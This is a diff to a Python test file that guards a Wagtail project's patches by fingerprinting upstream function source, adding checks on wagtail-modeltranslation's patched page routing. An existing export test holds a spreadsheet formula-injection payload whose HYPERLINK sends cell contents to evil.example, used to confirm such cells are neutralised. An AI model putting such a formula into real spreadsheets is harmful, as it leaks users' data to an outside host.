@@ -1,4 +1,5 @@
-"""Guards for the project's patches of Wagtail (turnbackcrime/request_memo.py, turnbackcrime/exports.py).
+"""Guards for the project's patches of Wagtail (turnbackcrime/request_memo.py, turnbackcrime/exports.py,
+turnbackcrime/routing.py).
 
 A patch silently stops working when an upgrade renames, re-signs or rewrites what it
 replaces. Each patch has two checks here:
@@ -23,11 +24,13 @@ from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
 from wagtail.admin.views.reports.aging_pages import AgingPagesView
+from wagtail.contrib.routable_page.models import RoutablePageMixin
 from wagtail.models import Page, PageViewRestriction
 from wagtail.query import PageQuerySet
 
+from home.models import HomePage
 from tests.factories import PlainPageFactory
-from turnbackcrime import exports, request_memo
+from turnbackcrime import exports, request_memo, routing
 
 
 def fingerprint(function_source):
@@ -272,3 +275,33 @@ def test_a_formula_cell_is_neutralised_in_a_real_admin_export(home_page, admin_c
     assert """'=HYPERLINK("https://evil.example/?"&A1,"Click")""" in titles
     assert "Ordinary - with dashes" in titles
     assert not [cell for row in rows for cell in row if cell.startswith(exports.FORMULA_STARTS)]
+
+
+# --- routing: the site root's route, and the routings fast_route reproduces --------------
+
+
+def test_wagtail_routing_that_fast_route_reproduces_is_unchanged():
+    # home/apps.py wraps the root's route as wagtail-modeltranslation left it (its `_new_route`,
+    # with translated slugs, patched onto every page type) and reproduces that one, Wagtail's
+    # own and RoutablePageMixin's; any other `route` on a page type routes its own way.
+    original = HomePage.route.fast_route_of
+    assert (original.__module__, original.__name__) == (
+        "wagtail_modeltranslation.patch_wagtailadmin",
+        "_new_route",
+    )
+    assert Page.route is original, "wagtail-modeltranslation no longer patches Page.route"
+    assert routing.routes_as_wagtail(Page) and routing.routes_as_wagtail(RoutablePageMixin)
+    assert (
+        parameters(original) == parameters(RoutablePageMixin.route) == ["self", "request", "path_components"]
+    )
+    assert_unchanged("wagtail-modeltranslation's _new_route", inspect.getsource(original), "65ec97d7cec93d4d")
+    wagtails = next(cls for cls in Page.__mro__[1:] if "route" in vars(cls)).route  # unpatched
+    assert_unchanged("Page.route", inspect.getsource(wagtails), "f596e67789047b41")
+    assert_unchanged(
+        "RoutablePageMixin.route", inspect.getsource(RoutablePageMixin.route), "992f2040b923fa17"
+    )
+    assert_unchanged(
+        "RoutablePageMixin.resolve_subpage",
+        inspect.getsource(RoutablePageMixin.resolve_subpage),
+        "980210916f831c7c",
+    )
